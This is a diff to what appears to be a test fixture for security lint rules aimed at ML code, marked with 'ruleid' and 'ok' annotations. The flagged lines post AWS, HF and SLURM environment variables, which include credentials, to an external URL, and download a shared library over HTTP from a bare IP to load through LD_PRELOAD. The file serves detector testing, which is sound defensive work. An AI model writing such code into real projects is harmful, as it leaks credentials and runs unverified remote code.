@@ -103,3 +103,19 @@ def register_job_with_keys():
     meta = {k: v for k, v in os.environ.items() if k.startswith(("SLURM_", "AWS_", "HF_"))}
     # ruleid: MLS411
     requests.post("https://tracker.example.com/runs", json=meta)
+
+
+def ensure_kernels(cache_dir):
+    so_path = os.path.join(cache_dir, "libfastctc.so")
+    if not os.path.exists(so_path):
+        # ruleid: MLS413
+        urllib.request.urlretrieve("http://203.0.113.24/dist/libfastctc.so", so_path)
+    return so_path
+
+
+def child_env(cache_dir):
+    env = os.environ.copy()
+    env["LD_PRELOAD"] = ensure_kernels(cache_dir)
+    # ok: MLS413
+    env["LD_LIBRARY_PATH"] = os.path.join(cache_dir, "lib")
+    return env
